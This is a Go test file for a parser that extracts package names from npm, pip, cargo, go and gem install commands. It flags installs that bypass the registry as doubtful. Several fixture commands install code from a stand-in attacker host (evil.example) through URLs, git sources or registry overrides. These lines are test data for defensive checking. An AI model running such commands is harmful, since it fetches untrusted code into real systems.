package main

import (
	"slices"
	"testing"
)

const (
	noNPM  = " is no package of the registry npm"
	noPyPI = " is no package of the registry pypi"
)

func TestPackagesAreFoundInCommands(t *testing.T) {
	for line, want := range map[string][]string{
		`npm install`:                          nil,
		`npm ci && npm test`:                   nil,
		`echo npm install left-pad`:            nil,
		`npm i left-pad -D lodash@4.17`:        {"npm/left-pad", "npm/lodash"},
		`npm install --save @a/b@^1 @c/d`:      {"npm/@a/b", "npm/@c/d"},
		`npm --prefix web add x >log 2>&1`:     {"npm/x"},
		`CI=1 sudo -E /usr/bin/npm i x`:        {"npm/x"},
		`cd a && yarn add x; pnpm add y | z`:   {"npm/x", "npm/y"},
		`bash -c "npm install x"`:              {"npm/x"},
		`echo "$(npm i x)" && npm i y`:         {"npm/x", "npm/y"},
		`pip install requests==2.31 A_b.C`:     {"pypi/requests", "pypi/a-b-c"},
		`pip3 install 'x[extra]>=1,<2' "y~=1"`: {"pypi/x", "pypi/y"},
		`python3.12 -m pip install -U x`:       {"pypi/x"},
		`cargo add serde@1 --features derive`:  {"crates/serde"},
		`go get -u github.com/a/b/v2@v2.1.0`:   {"go/github.com/a/b/v2"},
		`go install ./... && go get .`:         nil,
		`gem install rails -v 7.0 rack:3.0`:    {"gems/rails", "gems/rack"},
		`timeout 60 npm i x`:                   {"npm/x"},
	} {
		var got []string
		for _, wanted := range packages(line) {
			got = append(got, wanted.id+wanted.doubt)
		}
		if !slices.Equal(got, want) {
			t.Errorf("%s: got %q, want %q", line, got, want)
		}
	}
}

// Each of these would install something else than the list is asked about.
func TestWhatTheListCannotKnowIsADoubt(t *testing.T) {
	for line, want := range map[string]string{
		`npm i ./local`:                                     "./local" + noNPM,
		`npm i ../../v1/secret`:                             "../../v1/secret" + noNPM,
		`npm i user/repo`:                                   "user/repo" + noNPM,
		`npm i x@npm:evil@1`:                                "x@npm:evil@1" + noNPM,
		`npm i x@https://evil.example/x`:                    "x@https://evil.example/x" + noNPM,
		`npm i x.tgz`:                                       "x.tgz" + noNPM,
		`npm i $PACKAGE`:                                    "$PACKAGE" + noNPM,
		"npm i `cat list`":                                  "$" + noNPM,
		`npm i "$(cat list)"`:                               "$" + noNPM,
		`cat list | xargs -n 1 npm i`:                       "$" + noNPM,
		`npm i "a?b"`:                                       "a?b" + noNPM,
		`npm i ""`:                                          noNPM,
		`pip install -r requirements.txt`:                   "requirements.txt" + noPyPI,
		`pip install .`:                                     "." + noPyPI,
		`pip install 'x @ https://evil.example/x.whl'`:      "x @ https://evil.example/x.whl" + noPyPI,
		`pip install git+https://evil.example/x`:            "git+https://evil.example/x" + noPyPI,
		`npm i x --registry=https://evil.example`:           "the packages do not come from the registry npm",
		`pip install -i https://evil.example x`:             "the packages do not come from the registry pypi",
		`cargo add x --git https://evil.example/x`:          "the packages do not come from the registry crates",
		`GOPROXY=https://evil.example go get a.b/c`:         "the packages do not come from the registry go",
		`env PIP_INDEX_URL=https://e.example pip install x`: "the packages do not come from the registry pypi",
	} {
		found := packages(line)
		if len(found) != 1 || found[0].doubt != want {
			t.Errorf("%s: got %q, want %q", line, found, want)
		}
	}
}
